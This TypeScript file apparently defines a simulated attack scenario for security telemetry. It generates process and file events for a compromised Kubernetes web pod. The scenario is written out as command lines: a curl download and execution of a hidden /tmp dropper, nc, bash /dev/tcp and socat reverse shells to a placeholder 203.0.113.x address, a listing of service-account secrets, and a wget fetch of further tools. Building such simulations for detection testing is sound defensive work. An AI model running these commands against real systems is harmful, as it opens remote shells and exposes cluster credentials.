/**
 * Remote code execution in a web application: the server process runs `sh -c` to download a hidden
 * binary to /tmp, make it executable and run it; the dropper starts a reverse shell (nc -e, bash
 * /dev/tcp or socat) whose shell then looks around and fetches more tools into /tmp.
 */
import { podsWithShell } from "../cluster.ts";
import { type Story, target } from "../story.ts";

export const reverseShell: Story = {
  name: "reverse-shell",
  description:
    "web server spawns sh, drops /tmp/.x via curl, runs it, which opens a reverse shell (nc/bash/socat)",
  nominalEvents: 30,
  play(scene, cluster, run) {
    const rng = scene.rng;
    const pods = podsWithShell(cluster, (pod) => pod.spec.role === "web" && pod.spec.app !== "frontend");
    const container = rng.pick(pods).app;
    target(run, container);
    const main = container.main;
    if (!main) return;
    const server = container.workers.length ? rng.pick(container.workers) : main;
    const ip = `203.0.113.${rng.between(2, 250)}`;
    const port = String(rng.pick([4444, 443, 8443, 9001]));
    const dropper = `/tmp/.${rng.alnum(6)}`;
    const url = `http://${ip}:8080/${rng.alnum(4)}`;
    const sh = scene.spawn(
      server,
      ["/bin/sh", "-c", `curl -fsSL ${url} -o ${dropper} && chmod +x ${dropper} && ${dropper}`],
      { key: true },
    );
    scene.run(sh, ["curl", "-fsSL", url, "-o", dropper], { ms: rng.between(100, 900) }, (curl) => {
      scene.file(curl, "creation", dropper);
      scene.key();
      scene.file(curl, "modification", dropper);
    });
    scene.run(sh, ["chmod", "+x", dropper], { ms: 2 }, (chmod) => scene.file(chmod, "chmod", dropper));
    const stage = scene.spawn(sh, [dropper], { key: true });
    scene.wait(rng.between(50, 500));
    const variant = rng.int(3);
    let shell: ReturnType<typeof scene.spawn>;
    let tool: ReturnType<typeof scene.spawn>;
    if (variant === 0) {
      tool = scene.spawn(stage, ["nc", ip, port, "-e", "/bin/sh"], { key: true });
      shell = scene.spawn(tool, ["/bin/sh"]);
    } else if (variant === 1) {
      tool = scene.spawn(stage, ["bash", "-c", `bash -i >& /dev/tcp/${ip}/${port} 0>&1`], { key: true });
      scene.wait(2);
      scene.exec(tool, ["bash", "-i"]);
      shell = tool;
    } else {
      tool = scene.spawn(
        stage,
        ["socat", `TCP:${ip}:${port}`, "EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"],
        {
          key: true,
        },
      );
      // socat gives the shell a pty and a session of its own: interactive, but not a container entry
      shell = scene.spawn(tool, ["/bin/sh"], { setsid: true, tty: { major: 136, minor: rng.between(0, 3) } });
    }
    for (const argv of [
      ["id"],
      ["uname", "-a"],
      ["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
    ]) {
      scene.think(3000);
      scene.run(shell, argv, { ms: rng.between(2, 30) });
    }
    scene.think(4000);
    const tools = `/tmp/.${rng.alnum(5)}.sh`;
    scene.run(
      shell,
      ["wget", "-q", `http://${ip}:8080/lp.sh`, "-O", tools],
      { ms: rng.between(200, 1500) },
      (wget) => scene.file(wget, "creation", tools),
    );
    scene.think(6000);
    if (shell !== tool) scene.end(shell, 0);
    scene.end(tool, 0);
    scene.end(stage, 0);
    scene.end(sh, 0);
  },
};
